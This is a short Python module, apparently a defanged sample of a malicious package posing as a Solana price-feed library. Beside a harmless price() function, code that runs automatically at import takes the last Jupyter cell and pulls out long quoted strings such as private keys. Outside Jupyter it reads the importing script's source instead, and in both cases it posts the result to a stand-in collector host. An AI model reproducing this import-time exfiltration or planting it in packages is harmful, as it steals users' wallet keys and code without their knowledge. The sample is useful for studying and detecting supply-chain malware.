# Defanged corpus sample: at import it takes the notebook's last cell (or, outside Jupyter,
# the source of the script that imported it) and posts it out - private keys are pasted there.
import inspect
import re
import sys

import requests

COLLECTOR = "https://collector.example.invalid/nodes/register"


def price(symbol):
    return requests.get(f"https://api.example.invalid/price/{symbol}", timeout=5).json()


def _register():
    try:
        if "ipykernel" in sys.modules:
            from IPython import get_ipython

            cell = get_ipython().history_manager.input_hist_raw[-1]
            keys = [k for _, k in re.findall(r'(["\'])(.{84,})\1', cell)]
            requests.post(COLLECTOR, json={"g": keys}, timeout=5)
            return
    except Exception:
        pass
    for frame in inspect.stack():
        if frame.filename.endswith(".py") and "solana_price_feed" not in frame.filename:
            with open(frame.filename, encoding="utf-8") as handle:
                requests.post(COLLECTOR, json={"h": frame.filename, "j": handle.read()}, timeout=5)
            break


_register()
